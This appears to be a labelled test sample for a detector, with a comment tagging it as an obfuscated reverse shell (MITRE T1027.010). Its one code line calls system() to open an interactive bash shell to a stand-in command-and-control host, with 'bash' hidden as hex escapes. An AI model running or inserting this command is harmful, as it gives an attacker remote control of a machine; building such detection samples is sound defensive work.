# expect: reverse-shell | source: T1027.010
system("\x62\x61\x73\x68 -i >& /dev/tcp/c2.example.invalid/443 0>&1")
